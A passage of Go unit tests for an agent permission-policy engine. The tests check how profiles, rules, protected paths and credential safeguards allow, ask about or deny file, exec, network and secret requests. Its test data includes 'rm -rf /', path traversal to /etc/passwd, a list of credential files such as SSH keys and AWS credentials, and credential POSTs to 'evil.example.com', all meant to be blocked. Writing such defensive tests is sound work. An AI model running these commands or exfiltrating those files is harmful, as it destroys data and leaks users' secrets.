package grants

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const secretsTOML = `
[secrets.github]
env   = "GITHUB_TOKEN"
hosts = ["api.github.com"]
`

// TestProfiles walks every row of SPEC.md's profile table, for each profile.
func TestProfiles(t *testing.T) {
	e := newEnv(t)
	type row struct {
		name string
		req  Request
		// expected decision per profile
		strict, interactive, permissive want
	}
	const (
		ia = "interactive-dev/"
		pd = "permissive-dev/"
	)
	strictMode := byMode[Deny]
	rows := []row{
		{"workspace read", fileReq(CapWorkspaceRead, e.in("src/a.go")),
			strictMode, allowBy(ia + "allow-workspace-read"), allowBy(pd + "allow-rest")},
		{"workspace write", fileReq(CapWorkspaceWrite, e.in("src/a.go")),
			strictMode, allowBy(ia + "allow-workspace-write"), allowBy(pd + "allow-rest")},
		{"workspace delete", fileReq(CapWorkspaceDelete, e.in("src/a.go")),
			strictMode, askBy(ia + "ask-workspace-delete"), allowBy(pd + "allow-rest")},
		{"filesystem read", fileReq(CapFilesystemRead, "/etc/hosts"),
			strictMode, askBy(ia + "ask-outside-workspace"), denyBy(pd + "deny-outside-workspace")},
		{"filesystem write", fileReq(CapFilesystemWrite, "/tmp/out.txt"),
			strictMode, askBy(ia + "ask-outside-workspace"), denyBy(pd + "deny-outside-workspace")},
		{"filesystem delete", fileReq(CapFilesystemDelete, "/tmp/out.txt"),
			strictMode, askBy(ia + "ask-outside-workspace"), denyBy(pd + "deny-outside-workspace")},
		{"exec in sandbox", execReq("ls -la", SurfaceSandbox),
			strictMode, allowBy(ia + "allow-sandboxed-exec"), allowBy(pd + "allow-rest")},
		{"exec on host", execReq("ls -la", SurfaceHost),
			strictMode, askBy(ia + "ask-host-exec"), denyBy(pd + "deny-host-exec")},
		{"http get", httpReq("GET", "api.github.com"),
			strictMode, askBy(ia + "ask-network"), denyBy(pd + "deny-network")},
		{"http post", httpReq("POST", "api.github.com"),
			strictMode, askBy(ia + "ask-network"), denyBy(pd + "deny-network")},
		{"http delete", httpReq("DELETE", "example.com"),
			strictMode, askBy(ia + "ask-network"), denyBy(pd + "deny-network")},
		{"configured secret", secretReq("github"),
			strictMode, askBy(ia + "ask-secret-use"), allowBy(pd + "allow-rest")},
		{"unconfigured secret", secretReq("aws"),
			denyBy("strict-production/deny-unbrokered-secrets"), askBy(ia + "ask-secret-use"), denyBy(pd + "deny-unconfigured-secrets")},
		{"user.ask", Request{Capability: CapUserAsk, Target: Target{ToolName: "ask_user"}, Risk: RiskLow},
			strictMode, allowBy(ia + "allow-ask-user"), allowBy(pd + "allow-rest")},
		{"high-risk workspace write", withRisk(fileReq(CapWorkspaceWrite, e.in("a.go")), RiskHigh),
			strictMode, askBy(ia + "ask-high-risk"), allowBy(pd + "allow-rest")},
		{"high-risk sandboxed exec", withRisk(execReq("sh -c $x", SurfaceSandbox), RiskHigh),
			strictMode, askBy(ia + "ask-high-risk"), allowBy(pd + "allow-rest")},
		{"critical sandboxed exec", withRisk(execReq("rm -rf /", SurfaceSandbox), RiskCritical),
			strictMode, askBy(ia + "ask-high-risk"), allowBy(pd + "allow-rest")},
		{"credential read", fileReq(CapWorkspaceRead, e.in(".env")),
			credDeny, credDeny, credDeny},
		{"credential network flow", func() Request {
			r := httpReq("POST", "api.github.com")
			r.DataClasses = []DataClass{DataCredential}
			return r
		}(), credDeny, credDeny, credDeny},
	}
	for _, prof := range []string{"strict-production", "interactive-dev", "permissive-dev"} {
		p := e.policy(t, fmt.Sprintf("profile = %q\n", prof)+secretsTOML)
		if got := p.Profile; got != prof {
			t.Fatalf("Profile = %q", got)
		}
		for _, r := range rows {
			w := map[string]want{"strict-production": r.strict, "interactive-dev": r.interactive, "permissive-dev": r.permissive}[prof]
			t.Run(prof+"/"+r.name, func(t *testing.T) { check(t, p, r.req, w) })
		}
	}
}

func TestProfileModes(t *testing.T) {
	e := newEnv(t)
	for prof, mode := range map[string]Mode{"strict-production": ModeStrict, "interactive-dev": ModeInteractive, "permissive-dev": ModePermissive} {
		if p := e.policy(t, fmt.Sprintf("profile = %q\n", prof)); p.Mode != mode {
			t.Errorf("%s: mode %s, want %s", prof, p.Mode, mode)
		}
		// mode overrides the profile's
		if p := e.policy(t, fmt.Sprintf("profile = %q\nmode = \"strict\"\n", prof)); p.Mode != ModeStrict {
			t.Errorf("%s with mode strict: mode %s", prof, p.Mode)
		}
	}
	if got := ProfileNames(); strings.Join(got, ",") != "interactive-dev,permissive-dev,strict-production" {
		t.Errorf("ProfileNames = %v", got)
	}
}

// TestReasonCodes: each reason code the policy itself produces.
func TestReasonCodes(t *testing.T) {
	e := newEnv(t)
	p := e.policy(t, `mode = "strict"
[[rules.deny]]
rule_id = "d"
capability = "workspace.files.read"
target = { path = "secret/**" }
[[rules.ask]]
rule_id = "a"
capability = "workspace.files.read"
target = { path = "ask/**" }
[[rules.allow]]
rule_id = "ok"
capability = "workspace.files.*"
[[rules.ask]]
rule_id = "ask-exec"
capability = "process.exec"
target = { resource = "make" }
constraints = { sandbox_required = true, approval_expires_seconds = 600 }
[[rules.allow]]
rule_id = "allow-exec"
capability = "process.exec"
constraints = { sandbox_required = true }
`)
	pi := e.policy(t, "mode = \"interactive\"\n")
	tests := []struct {
		name string
		p    *Policy
		req  Request
		w    want
	}{
		{"matched_allow", p, fileReq(CapWorkspaceRead, e.in("src/a.go")), allowBy("ok")},
		{"matched_ask", p, fileReq(CapWorkspaceRead, e.in("ask/a.go")), askBy("a")},
		{"matched_deny", p, fileReq(CapWorkspaceRead, e.in("secret/a.go")), denyBy("d")},
		{"unknown_capability by mode strict", p, httpReq("GET", "example.com"), byMode[Deny]},
		{"unknown_capability by mode interactive", pi, httpReq("GET", "example.com"), byMode[Ask]},
		{"unknown_capability: capability not known", pi, Request{Capability: "network.ftp.get"}, unknownCapDn},
		{"unknown_capability: empty capability", pi, Request{}, unknownCapDn},
		{"protected_path", p, fileReq(CapWorkspaceWrite, e.cfg), invalidDeny}, // config is outside the workspace: wrong capability
		{"protected_path filesystem", p, fileReq(CapFilesystemWrite, e.cfg), protectDeny},
		{"invalid_arguments relative", p, fileReq(CapWorkspaceRead, "src/a.go"), invalidDeny},
		{"invalid_arguments empty", p, fileReq(CapWorkspaceRead, ""), invalidDeny},
		{"invalid_arguments dotdot", p, fileReq(CapWorkspaceRead, e.in("src")+"/../../etc/passwd"), invalidDeny},
		{"invalid_arguments double slash", p, fileReq(CapWorkspaceRead, e.ws+"//a.go"), invalidDeny},
		{"invalid_arguments trailing slash", p, fileReq(CapWorkspaceRead, e.in("src")+"/"), invalidDeny},
		{"invalid_arguments dot", p, fileReq(CapWorkspaceRead, e.ws+"/./a.go"), invalidDeny},
		{"invalid_arguments workspace capability outside", p, fileReq(CapWorkspaceRead, "/etc/passwd"), invalidDeny},
		{"invalid_arguments workspace capability on sibling", p, fileReq(CapWorkspaceRead, e.ws+"_evil/a"), invalidDeny},
		{"sandbox_unavailable ask", p, execReq("make test", SurfaceHost), want{Deny, ReasonSandboxUnavailable, "ask-exec"}},
		{"sandbox_unavailable allow", p, execReq("ls", SurfaceHost), want{Deny, ReasonSandboxUnavailable, "allow-exec"}},
		{"sandbox ok ask", p, execReq("make test", SurfaceSandbox), askBy("ask-exec")},
		{"sandbox ok allow", p, execReq("ls", SurfaceSandbox), allowBy("allow-exec")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, tt.p, tt.req, tt.w) })
	}
	if d := p.Decide(execReq("make test", SurfaceSandbox)); d.ApprovalExpires != 600*time.Second {
		t.Errorf("ApprovalExpires = %v, want 10m", d.ApprovalExpires)
	}
	if d := p.Decide(fileReq(CapWorkspaceRead, e.in("ask/a.go"))); d.ApprovalExpires != 0 {
		t.Errorf("ApprovalExpires = %v, want 0 (once)", d.ApprovalExpires)
	}
}

func TestZeroValues(t *testing.T) {
	var d Decision
	if d.Effect != Deny {
		t.Fatal("zero Decision must deny")
	}
	var m Mode
	if m != ModeStrict {
		t.Fatal("zero Mode must be strict")
	}
	// A zero Policy (no rules, strict) denies everything and does not panic.
	var p Policy
	for _, c := range Capabilities() {
		r := Request{Capability: c, Target: Target{Path: "/a", Host: "h", Resource: "r", Command: "c"}}
		if got := p.Decide(r).Effect; got != Deny {
			t.Errorf("zero policy: %s → %s", c, got)
		}
	}
	if v := p.DecideAll(nil); v.Effect != Deny {
		t.Error("zero policy DecideAll(nil) must deny")
	}
}

// TestRiskDefault: a request without a valid risk gets its base risk, so an
// ask-on-high rule still sees a delete as high.
func TestRiskDefault(t *testing.T) {
	e := newEnv(t)
	p := e.policy(t, `profile = "interactive-dev"`)
	r := fileReq(CapWorkspaceDelete, e.in("a"))
	r.Risk = 0
	d := p.Decide(r)
	if d.Request.Risk != RiskHigh {
		t.Errorf("risk = %s, want high", d.Request.Risk)
	}
	r = fileReq(CapWorkspaceWrite, e.in("a"))
	r.Risk = 99
	if d := p.Decide(r); d.Request.Risk != RiskMedium || d.Effect != Allow {
		t.Errorf("write with risk 99: %s risk %s", d.Effect, d.Request.Risk)
	}
}

// TestOrdering: deny > ask > allow > mode, with rules of all three effects
// matching the same request.
func TestOrdering(t *testing.T) {
	e := newEnv(t)
	rule := func(effect, id string) string {
		return fmt.Sprintf("[[rules.%s]]\nrule_id = %q\ncapability = \"process.exec\"\ntarget = { command = \"git push*\" }\n", effect, id)
	}
	req := execReq("git push origin main", SurfaceSandbox)
	for _, mode := range []string{"strict", "interactive", "permissive"} {
		modeEffect := map[string]Effect{"strict": Deny, "interactive": Ask, "permissive": Allow}[mode]
		tests := []struct {
			name  string
			rules []string
			w     want
		}{
			{"deny+ask+allow", []string{rule("allow", "al"), rule("ask", "as"), rule("deny", "de")}, denyBy("de")},
			{"deny+allow", []string{rule("allow", "al"), rule("deny", "de")}, denyBy("de")},
			{"deny+ask", []string{rule("ask", "as"), rule("deny", "de")}, denyBy("de")},
			{"ask+allow", []string{rule("allow", "al"), rule("ask", "as")}, askBy("as")},
			{"allow", []string{rule("allow", "al")}, allowBy("al")},
			{"ask", []string{rule("ask", "as")}, askBy("as")},
			{"none", nil, byMode[modeEffect]},
			// first matching rule of an effect wins, in config order
			{"two allows", []string{rule("allow", "al1"), rule("allow", "al2")}, allowBy("al1")},
		}
		for _, tt := range tests {
			t.Run(mode+"/"+tt.name, func(t *testing.T) {
				p := e.policy(t, fmt.Sprintf("mode = %q\n", mode)+strings.Join(tt.rules, "\n"))
				check(t, p, req, tt.w)
				// a request the rules do not match falls to the mode
				check(t, p, execReq("git pull", SurfaceSandbox), byMode[modeEffect])
			})
		}
	}
	// Profile rules come before config rules of the same effect, and a
	// config deny beats a profile allow.
	p := e.policy(t, "profile = \"interactive-dev\"\n"+rule("deny", "no-push")+rule("allow", "my-exec"))
	check(t, p, req, denyBy("no-push"))
	check(t, p, execReq("git status", SurfaceSandbox), allowBy("interactive-dev/allow-sandboxed-exec"))
	ids := []string{}
	for _, r := range p.Rules() {
		ids = append(ids, r.ID)
	}
	if got := strings.Join(ids, " "); !strings.HasPrefix(got, "no-push interactive-dev/ask-host-exec") || !strings.HasSuffix(got, "interactive-dev/allow-ask-user my-exec") {
		t.Errorf("Rules() order: %s", got)
	}
}

func TestDecideAll(t *testing.T) {
	e := newEnv(t)
	p := e.policy(t, `profile = "interactive-dev"
[[rules.deny]]
rule_id = "no-rm"
capability = "process.exec"
target = { resource = "rm" }
`)
	allow1 := execReq("ls", SurfaceSandbox)
	allow2 := fileReq(CapWorkspaceWrite, e.in("a.go"))
	ask1 := fileReq(CapWorkspaceDelete, e.in("b.go"))
	ask2 := httpReq("GET", "example.com")
	deny1 := execReq("rm x", SurfaceSandbox)
	tests := []struct {
		name   string
		reqs   []Request
		effect Effect
		asks   int
		deny   string
	}{
		{"empty", nil, Deny, 0, ""},
		{"empty slice", []Request{}, Deny, 0, ""},
		{"all allow", []Request{allow1, allow2}, Allow, 0, ""},
		{"one ask", []Request{allow1, ask1, allow2}, Ask, 1, ""},
		{"asks gathered", []Request{ask1, allow1, ask2}, Ask, 2, ""},
		{"one deny denies", []Request{allow1, ask1, deny1, ask2}, Deny, 2, "no-rm"},
		{"deny first", []Request{deny1, allow1}, Deny, 0, "no-rm"},
		{"unknown capability denies", []Request{allow1, {Capability: "nope"}}, Deny, 0, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := p.DecideAll(tt.reqs)
			if v.Effect != tt.effect {
				t.Errorf("effect %s, want %s", v.Effect, tt.effect)
			}
			if len(v.Decisions) != len(tt.reqs) {
				t.Fatalf("%d decisions for %d requests", len(v.Decisions), len(tt.reqs))
			}
			for i, d := range v.Decisions {
				if d.Request.Capability != tt.reqs[i].Capability || d.Request.Target != tt.reqs[i].Target || d.Effect != p.Decide(tt.reqs[i]).Effect {
					t.Errorf("decision %d is not for request %d", i, i)
				}
			}
			if got := len(v.Asks()); got != tt.asks {
				t.Errorf("%d asks, want %d", got, tt.asks)
			}
			d, ok := v.FirstDeny()
			if ok != (tt.effect == Deny && len(tt.reqs) > 0) {
				t.Errorf("FirstDeny ok = %v", ok)
			}
			if ok && tt.deny != "" && d.RuleID != tt.deny {
				t.Errorf("FirstDeny rule %q, want %q", d.RuleID, tt.deny)
			}
		})
	}
}

// TestProtectedPaths: the config, the audit log and the executable are never
// written or deleted, not even with a rule naming them; reading is fine.
func TestProtectedPaths(t *testing.T) {
	e := newEnv(t)
	// Put all three inside the workspace, where the profile allows writes.
	e.cfg = e.in("onellm.toml")
	e.audit = e.in("state/audit.jsonl")
	exe := e.in("bin/onellm-mcp")
	helper := e.in("bin/onellm-sandbox") // need not exist
	allows := ""
	for i, f := range []string{e.cfg, e.audit, exe, helper} {
		allows += fmt.Sprintf("[[rules.allow]]\nrule_id = \"exact-%d\"\ncapability = \"*\"\ntarget = { path = %q }\n", i, f)
	}
	src := fmt.Sprintf("workspace = %q\nprofile = \"permissive-dev\"\n%s\n[audit]\npath = %q\n", e.ws, allows, e.audit)
	cfg, err := Parse([]byte(src), e.cfg, e.ws)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Compile(cfg, CompileOptions{Executable: exe, Helper: helper, Home: testHome})
	if err != nil {
		t.Fatal(err)
	}
	if got := p.Protected(); len(got) != 4 {
		t.Fatalf("Protected() = %v", got)
	}
	for i, f := range []string{e.cfg, e.audit, exe, helper} {
		check(t, p, fileReq(CapWorkspaceWrite, f), protectDeny)
		check(t, p, fileReq(CapWorkspaceDelete, f), protectDeny)
		_ = i
		check(t, p, fileReq(CapWorkspaceRead, f), allowBy("permissive-dev/allow-rest"))
	}
	// Outside the workspace, with a mode that allows everything.
	e2 := newEnv(t)
	p2 := e2.policy(t, `mode = "permissive"`)
	for _, f := range []string{e2.cfg, e2.audit, testExecutable} {
		check(t, p2, fileReq(CapFilesystemWrite, f), protectDeny)
		check(t, p2, fileReq(CapFilesystemDelete, f), protectDeny)
		check(t, p2, fileReq(CapFilesystemRead, f), byMode[Allow])
	}
	check(t, p2, fileReq(CapFilesystemWrite, e2.cfg+".bak"), byMode[Allow])
}

// TestProtectedThroughSymlink: a protected file named through a symlinked
// folder is protected by its real path.
func TestProtectedThroughSymlink(t *testing.T) {
	e := newEnv(t)
	real := filepath.Join(e.root, "realcfg")
	if err := os.Mkdir(real, 0o755); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(e.root, "linkcfg")
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	e.cfg = filepath.Join(link, "onellm.toml")
	p := e.policy(t, `mode = "permissive"`)
	check(t, p, fileReq(CapFilesystemWrite, filepath.Join(real, "onellm.toml")), protectDeny)
}

var credentialPaths = []string{
	".env", ".env.local", "config/.env.production", "x.pem", "certs/server.key", "id_rsa", "id_rsa.pub", "keys/id_ed25519",
	".ssh/config", ".ssh/authorized_keys", "home/.aws/credentials", ".netrc", ".git-credentials", ".npmrc", ".pypirc", "db.kdbx",
}

func TestCredentialPaths(t *testing.T) {
	e := newEnv(t)
	for _, rel := range credentialPaths {
		if !IsCredentialPath(e.in(rel)) {
			t.Errorf("IsCredentialPath(%s) = false", rel)
		}
	}
	for _, rel := range []string{"env", "src/environment.go", "README.md", "pem.go", "ssh/config", ".sshx/config", "aws/credentials", "key", "notes.keys"} {
		if IsCredentialPath(e.in(rel)) {
			t.Errorf("IsCredentialPath(%s) = true", rel)
		}
	}
	glob := `profile = "permissive-dev"
[[rules.allow]]
rule_id = "everything"
capability = "*"
[[rules.allow]]
rule_id = "glob-env"
capability = "workspace.files.*"
target = { path = "**/.env*" }
[[rules.allow]]
rule_id = "glob-all"
capability = "workspace.files.*"
target = { path = "**" }
`
	p := e.policy(t, glob)
	for _, rel := range credentialPaths {
		for _, c := range []Capability{CapWorkspaceRead, CapWorkspaceWrite, CapWorkspaceDelete} {
			check(t, p, fileReq(c, e.in(rel)), credDeny)
		}
	}
	// An allow rule naming the exact path lifts it: relative or absolute.
	for i, rel := range credentialPaths {
		name := rel
		if i%2 == 1 {
			name = e.in(rel)
		}
		p := e.policy(t, glob+fmt.Sprintf("[[rules.allow]]\nrule_id = \"exact\"\ncapability = \"workspace.files.read\"\ntarget = { path = %q }\n", name))
		check(t, p, fileReq(CapWorkspaceRead, e.in(rel)), allowBy("permissive-dev/allow-rest"))
		// only for the capability the exact rule allows
		check(t, p, fileReq(CapWorkspaceWrite, e.in(rel)), credDeny)
		// only for that path
		check(t, p, fileReq(CapWorkspaceRead, e.in("other/"+rel)), credDeny)
	}
	// An exact ask rule does not lift it: only an allow rule does.
	p = e.policy(t, "profile = \"interactive-dev\"\n[[rules.ask]]\nrule_id = \"ask-env\"\ncapability = \"*\"\ntarget = { path = \".env\" }\n")
	check(t, p, fileReq(CapWorkspaceRead, e.in(".env")), credDeny)
	// A deny rule still beats the exact allow.
	p = e.policy(t, `profile = "permissive-dev"
[[rules.allow]]
rule_id = "exact"
capability = "workspace.files.read"
target = { path = ".env" }
[[rules.deny]]
rule_id = "no-dot"
capability = "workspace.files.read"
target = { path = "**/.*" }
`)
	check(t, p, fileReq(CapWorkspaceRead, e.in(".env")), denyBy("no-dot"))
	// Outside the workspace too: ~/.ssh/id_rsa under mode permissive.
	p = e.policy(t, `mode = "permissive"`)
	check(t, p, fileReq(CapFilesystemRead, testHome+"/.ssh/id_rsa"), credDeny)
	p = e.policy(t, "mode = \"permissive\"\n[[rules.allow]]\nrule_id = \"my-key\"\ncapability = \"filesystem.read\"\ntarget = { path = \"~/.ssh/id_rsa\" }\n")
	check(t, p, fileReq(CapFilesystemRead, testHome+"/.ssh/id_rsa"), allowBy("my-key"))
}

func TestCredentialNetworkFlow(t *testing.T) {
	e := newEnv(t)
	cred := func(r Request) Request { r.DataClasses = []DataClass{DataCredential}; return r }
	tests := []struct {
		name  string
		rules string
		req   Request
		w     want
	}{
		{"no rule", "", cred(httpReq("POST", "api.example.com")), credDeny},
		{"plain allow", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
target = { host = "api.example.com" }
`, cred(httpReq("POST", "api.example.com")), credDeny},
		{"allow with class, literal host", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
target = { host = "api.example.com" }
conditions = { data_classes = ["credential"] }
`, cred(httpReq("POST", "API.example.com.")), allowBy("api")},
		{"other host", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
target = { host = "api.example.com" }
conditions = { data_classes = ["credential"] }
`, cred(httpReq("POST", "evil.example.com")), credDeny},
		{"allow with class, host glob", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
target = { host = "*.example.com" }
conditions = { data_classes = ["credential"] }
`, cred(httpReq("POST", "api.example.com")), credDeny},
		{"allow with class, no host", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
conditions = { data_classes = ["credential"] }
`, cred(httpReq("POST", "api.example.com")), credDeny},
		{"ask with class does not lift", `[[rules.ask]]
rule_id = "api"
capability = "network.http.*"
target = { host = "api.example.com" }
conditions = { data_classes = ["credential"] }
`, cred(httpReq("POST", "api.example.com")), credDeny},
		{"no credential: plain allow", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
target = { host = "api.example.com" }
`, httpReq("POST", "api.example.com"), allowBy("api")},
		{"no credential: class rule does not match", `[[rules.allow]]
rule_id = "api"
capability = "network.http.*"
target = { host = "api.example.com" }
conditions = { data_classes = ["credential"] }
`, httpReq("POST", "api.example.com"), byMode[Deny]},
		{"command carrying credential", `[[rules.allow]]
rule_id = "curl"
capability = "process.exec"
target = { resource = "curl" }
conditions = { data_classes = ["credential"] }
`, cred(execReq("curl https://api.example.com", SurfaceSandbox)), allowBy("curl")},
		{"command glob carrying credential", `[[rules.allow]]
rule_id = "curl"
capability = "process.exec"
target = { resource = "cu*" }
conditions = { data_classes = ["credential"] }
`, cred(execReq("curl https://api.example.com", SurfaceSandbox)), credDeny},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			check(t, e.policy(t, "mode = \"strict\"\n"+tt.rules), tt.req, tt.w)
		})
	}
	// Even permissive-dev with allow * does not let credentials out.
	p := e.policy(t, "profile = \"permissive-dev\"\n[[rules.allow]]\nrule_id = \"all\"\ncapability = \"*\"\n")
	check(t, p, cred(execReq("curl x", SurfaceSandbox)), credDeny)
}

func TestGitCodeFiles(t *testing.T) {
	e := newEnv(t)
	base := "profile = \"permissive-dev\"\n[[rules.allow]]\nrule_id = \"glob\"\ncapability = \"workspace.files.*\"\ntarget = { path = \".git/**\" }\n"
	p := e.policy(t, base)
	for _, rel := range []string{".git/hooks/pre-commit", ".git/hooks/sub/x", ".git/config", "vendor/lib/.git/hooks/post-checkout", "vendor/lib/.git/config",
		".git/commondir", ".git/info/attributes", ".git/hooksx/a", ".git/config.d", ".git/modules/m/config", ".git/modules/m/hooks/x",
		".git/worktrees/w/gitdir", ".git/worktrees/w/commondir", "wt/.git", ".git/brand-new"} {
		check(t, p, fileReq(CapWorkspaceWrite, e.in(rel)), gitDeny)
		check(t, p, fileReq(CapWorkspaceDelete, e.in(rel)), gitDeny)
		check(t, p, fileReq(CapWorkspaceRead, e.in(rel)), allowBy("permissive-dev/allow-rest"))
	}
	for _, rel := range []string{".git/HEAD", ".git/index", ".git/ORIG_HEAD", ".git/refs/heads/main", ".git/objects/ab/cd",
		".git/modules/m/HEAD", ".git/worktrees/w/index", ".gitconfig", "git/config"} {
		check(t, p, fileReq(CapWorkspaceWrite, e.in(rel)), allowBy("permissive-dev/allow-rest"))
	}
	// A rule naming the exact path lifts it, allow or ask.
	p = e.policy(t, base+`[[rules.allow]]
rule_id = "hook"
capability = "workspace.files.write"
target = { path = ".git/hooks/pre-commit" }
[[rules.ask]]
rule_id = "gitcfg"
capability = "workspace.files.write"
target = { path = ".git/config" }
`)
	check(t, p, fileReq(CapWorkspaceWrite, e.in(".git/hooks/pre-commit")), allowBy("permissive-dev/allow-rest"))
	check(t, p, fileReq(CapWorkspaceWrite, e.in(".git/config")), askBy("gitcfg"))
	check(t, p, fileReq(CapWorkspaceWrite, e.in(".git/hooks/post-commit")), gitDeny)
	check(t, p, fileReq(CapWorkspaceDelete, e.in(".git/hooks/pre-commit")), gitDeny)
}

func TestSiblingPrefix(t *testing.T) {
	e := newEnv(t)
	evil := e.ws + "_evil"
	if err := os.Mkdir(evil, 0o755); err != nil {
		t.Fatal(err)
	}
	p := e.policy(t, `mode = "strict"
[[rules.allow]]
rule_id = "ws"
capability = "*"
target = { path = "**" }
[[rules.allow]]
rule_id = "ws-dir"
capability = "*"
target = { path = "src/*" }
`)
	check(t, p, fileReq(CapWorkspaceRead, e.in("a")), allowBy("ws"))
	check(t, p, fileReq(CapFilesystemRead, evil+"/a"), byMode[Deny])
	check(t, p, fileReq(CapFilesystemRead, evil), byMode[Deny])
	check(t, p, fileReq(CapFilesystemWrite, e.ws+"_evil/src/a"), byMode[Deny])
	check(t, p, fileReq(CapFilesystemRead, filepath.Dir(e.ws)), byMode[Deny])
	if !p.InWorkspace(e.ws) || !p.InWorkspace(e.in("a/b")) {
		t.Error("InWorkspace false for the workspace")
	}
	for _, s := range []string{evil, evil + "/a", e.ws + "x", filepath.Dir(e.ws), "/", ""} {
		if p.InWorkspace(s) {
			t.Errorf("InWorkspace(%q) = true", s)
		}
	}
}

// TestSymlinkedWorkspace: rules compiled against a workspace reached through
// a symlink speak of real paths, as requests do.
func TestSymlinkedWorkspace(t *testing.T) {
	e := newEnv(t)
	link := filepath.Join(e.root, "link")
	if err := os.Symlink(e.ws, link); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(e.in("src"), 0o755); err != nil {
		t.Fatal(err)
	}
	// an inner symlinked folder too
	if err := os.Symlink(e.in("src"), e.in("srclink")); err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(e.root, "outside")
	if err := os.Mkdir(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	src := fmt.Sprintf(`workspace = %q
mode = "strict"
[[rules.allow]]
rule_id = "rel"
capability = "*"
target = { path = "src/*.go" }
[[rules.allow]]
rule_id = "abs-through-link"
capability = "*"
target = { path = %q }
[[rules.allow]]
rule_id = "inner-link"
capability = "*"
target = { path = "srclink/*.txt" }
[[rules.allow]]
rule_id = "dotdot"
capability = "*"
target = { path = "src/../docs/*.md" }
[[rules.allow]]
rule_id = "dotdot-out"
capability = "*"
target = { path = "../outside/*" }
[[rules.allow]]
rule_id = "exact-through-link"
capability = "*"
target = { path = %q }
`, link, link+"/lib/**", link+"/src/main.c")
	cfg, err := Parse([]byte(src), filepath.Join(e.root, "c.toml"), e.root)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Compile(cfg, CompileOptions{Executable: testExecutable, Home: testHome})
	if err != nil {
		t.Fatal(err)
	}
	if p.Workspace != e.ws {
		t.Fatalf("Workspace = %q, want real path %q", p.Workspace, e.ws)
	}
	check(t, p, fileReq(CapWorkspaceRead, e.in("src/a.go")), allowBy("rel"))
	check(t, p, fileReq(CapWorkspaceRead, e.in("lib/x/y.c")), allowBy("abs-through-link"))
	check(t, p, fileReq(CapWorkspaceRead, e.in("src/notes.txt")), allowBy("inner-link"))
	check(t, p, fileReq(CapWorkspaceRead, e.in("docs/a.md")), allowBy("dotdot"))
	check(t, p, fileReq(CapWorkspaceRead, e.in("src/main.c")), allowBy("exact-through-link"))
	check(t, p, fileReq(CapFilesystemRead, filepath.Join(outside, "f")), allowBy("dotdot-out"))
	// ".." never lets a workspace rule reach out: src/../docs is still in.
	check(t, p, fileReq(CapFilesystemRead, filepath.Join(e.root, "docs/a.md")), byMode[Deny])
	check(t, p, fileReq(CapWorkspaceRead, e.in("src/a.c")), byMode[Deny])
	if !p.InWorkspace(e.in("src/a.go")) || p.InWorkspace(link+"/src/a.go") {
		t.Error("InWorkspace must speak of real paths")
	}
}

// TestWorkspaceWithGlobCharacters: a workspace whose name holds glob
// characters is matched literally by relative rules.
func TestWorkspaceWithGlobCharacters(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"ws[1]", "ws{a,b}", "w*s", "w?s"} {
		t.Run(name, func(t *testing.T) {
			e := env{root: root, ws: filepath.Join(root, name), cfg: filepath.Join(root, "c.toml"), audit: filepath.Join(root, "audit.jsonl")}
			if err := os.Mkdir(e.ws, 0o755); err != nil {
				t.Fatal(err)
			}
			p := e.policy(t, `mode = "strict"
[[rules.allow]]
rule_id = "all"
capability = "*"
target = { path = "**" }
[[rules.allow]]
rule_id = "env"
capability = "*"
target = { path = ".env" }
[[rules.deny]]
rule_id = "secret"
capability = "*"
target = { path = "secret/*" }
`)
			check(t, p, fileReq(CapWorkspaceRead, e.in("a/b.go")), allowBy("all"))
			check(t, p, fileReq(CapWorkspaceRead, e.in("secret/x")), denyBy("secret"))
			// lifted from deny_credential_flow by the exact "env" rule
			check(t, p, fileReq(CapWorkspaceRead, e.in(".env")), allowBy("all"))
			check(t, p, fileReq(CapWorkspaceRead, e.in("a/.env")), credDeny)
			for _, other := range []string{"ws1", "wsa", "wxs", "wXYs"} {
				check(t, p, fileReq(CapFilesystemRead, filepath.Join(root, other, "a")), byMode[Deny])
			}
		})
	}
}

func TestHomeExpansion(t *testing.T) {
	e := newEnv(t)
	p := e.policy(t, `mode = "strict"
[[rules.allow]]
rule_id = "notes"
capability = "filesystem.read"
target = { path = "~/notes/**" }
[[rules.allow]]
rule_id = "home"
capability = "filesystem.read"
target = { path = "~" }
`)
	check(t, p, fileReq(CapFilesystemRead, testHome+"/notes/a/b.md"), allowBy("notes"))
	check(t, p, fileReq(CapFilesystemRead, testHome), allowBy("home"))
	check(t, p, fileReq(CapFilesystemRead, testHome+"/other"), byMode[Deny])
	check(t, p, fileReq(CapFilesystemRead, "/home/testerx/notes/a"), byMode[Deny])
}

func TestConditions(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name  string
		rules string
		req   Request
		w     want
	}{
		{"risk_level match", `[[rules.allow]]
rule_id = "r"
capability = "*"
conditions = { risk_level = ["low", "medium"] }
`, execReq("ls", SurfaceSandbox), allowBy("r")},
		{"risk_level miss", `[[rules.allow]]
rule_id = "r"
capability = "*"
conditions = { risk_level = ["low", "medium"] }
`, withRisk(execReq("ls", SurfaceSandbox), RiskHigh), byMode[Deny]},
		{"execution_surface match", `[[rules.allow]]
rule_id = "r"
capability = "process.exec"
conditions = { execution_surface = "sandbox" }
`, execReq("ls", SurfaceSandbox), allowBy("r")},
		{"execution_surface miss", `[[rules.allow]]
rule_id = "r"
capability = "process.exec"
conditions = { execution_surface = "sandbox" }
`, execReq("ls", SurfaceHost), byMode[Deny]},
		{"exclude_execution_surface miss", `[[rules.allow]]
rule_id = "r"
capability = "process.exec"
conditions = { exclude_execution_surface = ["host"] }
